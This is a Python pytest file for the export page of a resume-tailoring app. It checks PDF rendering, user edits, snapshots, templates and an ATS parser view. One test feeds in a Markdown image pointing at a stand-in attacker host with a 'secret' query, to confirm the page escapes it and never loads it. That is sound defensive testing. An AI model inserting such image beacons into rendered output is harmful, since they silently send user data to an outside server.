"""Export page: a seeded tailored resume renders, is checked and can be edited; snapshots; no resume."""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

from app_runner import open_page, put_tailored, start_app
from resume_core.bank.model import Snapshot
from resume_core.output.render import TEMPLATES, render_markdown
from resume_core.storage.store import open_store
from tailor_banks import make_posting
from ui.markdown import escape_markdown

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
from resume_fixtures import load_tailored, overlong  # noqa: E402

pytestmark = pytest.mark.timeout(180)


def export_page(resume=None):
    at = start_app()
    if resume is not None:
        put_tailored(at, resume)
    return open_page(at, "export")


def texts(at) -> str:
    parts = [m.value for m in at.markdown] + [m.value for m in at.caption]
    parts += [m.value for m in at.success] + [m.value for m in at.error] + [m.value for m in at.info]
    return "\n".join(parts)


def test_without_a_resume_the_page_points_to_tailor():
    at = export_page()
    assert not at.exception
    assert "Tailor one to a posting first" in texts(at)


def test_seeded_resume_renders_a_checked_pdf():
    at = export_page(load_tailored())
    assert not at.exception
    assert "PDF check passed: 1 page(s)" in texts(at)
    assert at.text_area[0].value == render_markdown(load_tailored())
    assert len(at.get("image")) == 1  # the page preview (pypdfium2)
    assert len(at.get("download_button")) == 6


def test_overlong_resume_reports_dropped_lines():
    at = export_page(overlong())
    assert not at.exception
    assert "left out to fit 1 page(s)" in "\n".join(e.label for e in at.expander)
    lowest = min((line for entry in overlong().experience for line in entry.bullets), key=lambda line: line.score)
    assert escape_markdown(lowest.text) in texts(at)  # shown as text, never as Markdown
    at.radio(key="export_pages").set_value(2).run()  # the page-count choice (was a toggle, now shared with Tailor)
    assert not any("left out to fit 1 page" in e.label for e in at.expander)
    assert at.session_state["tp_pages"] == 2


def test_edits_flow_into_the_pdf_and_show_as_edited():
    resume = load_tailored()
    at = export_page(resume)
    edited = render_markdown(resume).replace("Mentored four engineers", "Coached four engineers")
    at.text_area[0].set_value(edited).run()
    assert not at.exception
    assert "*[edited here]* Coached four engineers" in texts(at)
    result = at.session_state["tp_export_result"][1]
    assert "Coached four engineers" in result.markdown and result.check.ok


def test_an_edited_line_with_an_image_is_listed_as_text_not_loaded():
    resume = load_tailored()
    at = export_page(resume)
    image = "![x](https://evil.example/?q=secret)"
    at.text_area[0].set_value(render_markdown(resume).replace("Mentored four engineers", f"Mentored {image}")).run()
    assert not at.exception
    assert not any("![x](" in m.value for m in at.markdown)
    assert any(escape_markdown(f"Mentored {image}") in m.value for m in at.markdown)


def test_a_saved_snapshot_can_be_exported_without_a_current_resume(workspace):
    store = open_store("local", str(workspace))
    posting = make_posting()
    store.save_posting(posting, None)
    resume = load_tailored().model_copy(update={"posting_id": posting.id})
    store.save_snapshot(Snapshot(id="snp-1a2b3c4d", posting_id=posting.id, created="2026-11-25T12:00:00+00:00",
                                 template="compact", note="sent", resume=resume))
    at = export_page()
    assert not at.exception
    assert "exporting a saved snapshot" in texts(at)
    assert at.selectbox(key="export_template").value == "compact"
    assert "PDF check passed" in texts(at)


def test_template_options_are_short_and_the_description_shows_under_the_box():
    at = export_page(load_tailored())
    box = at.selectbox(key="export_template")
    assert box.options == ["Classic", "Modern", "Compact"]  # as on the Tailor page
    assert TEMPLATES["classic"] in texts(at)
    box.set_value("modern").run()
    assert not at.exception
    assert TEMPLATES["modern"] in texts(at) and TEMPLATES["classic"] not in texts(at)


# A skill removed by hand is not reported missing from the PDF: tests/output/test_pdf_check.py (the page passes
# the edited text to export_pdf: test_edits_flow_into_the_pdf_and_show_as_edited).


def test_an_emptied_editor_shows_one_message_and_no_empty_downloads():
    at = export_page(load_tailored())
    at.text_area[0].set_value("").run()
    assert not at.exception
    assert not at.error, [e.value for e in at.error]
    assert [w.value for w in at.warning if "empty" in w.value] == [next(w.value for w in at.warning)]
    assert "The text is empty" in at.warning[0].value and "Reset to the tailored text" in at.warning[0].value
    buttons = {b.proto.label: b.proto.disabled for b in at.get("download_button")}
    assert buttons == {"PDF": True, "Word (DOCX)": True, "Markdown": True, "Plain text": True,
                       "JSON Resume": False, "Big Resume XML": False}
    at.button(key="export_reset").click().run()
    assert at.text_area[0].value == render_markdown(load_tailored()) and "PDF check passed" in texts(at)


def test_lines_edited_on_the_tailor_page_are_listed_with_those_edited_here():
    resume = load_tailored()
    bullet = resume.experience[0].bullets[0]
    bullet.text, bullet.provenance = "Moved 140 services onto Kubernetes in nine months", "edited"
    resume.summary.provenance = "edited"
    at = export_page(resume)
    assert f"*[edited on the Tailor page]* {escape_markdown(bullet.text)}" in texts(at)
    assert f"*[edited on the Tailor page]* {escape_markdown(resume.summary.text)}" in texts(at)
    assert "2 line(s) are not word for word from your Big Resume" in texts(at)
    at.text_area[0].set_value(render_markdown(resume) + "\n- Speaks Swedish\n").run()
    assert "*[typed here]* Speaks Swedish" in texts(at) and "3 line(s)" in texts(at)


def test_the_ats_view_shows_what_a_resume_parser_reads_beside_the_pdf():
    resume = load_tailored()
    at = export_page(resume)
    assert not at.exception
    assert [tab.label for tab in at.tabs] == ["PDF preview", "ATS view"]
    ats_tab = at.tabs[1]
    assert "The parser reads every job, title, date, bullet and school in its own entry." in [s.value for s in ats_tab.success]
    header = ats_tab.dataframe[0].value
    assert list(header["read"])[:2] == [resume.person.name, resume.person.email]
    jobs = ats_tab.dataframe[1].value
    titles = [title for entry in resume.experience for title in [p.title for p in entry.positions]]
    assert list(jobs["title"]) == titles
    assert all(jobs["dates"].str.len() > 0)
    bullets = [line.text for line in resume.experience[0].bullets]
    assert any(escape_markdown(bullets[0]) in m.value for m in ats_tab.markdown)
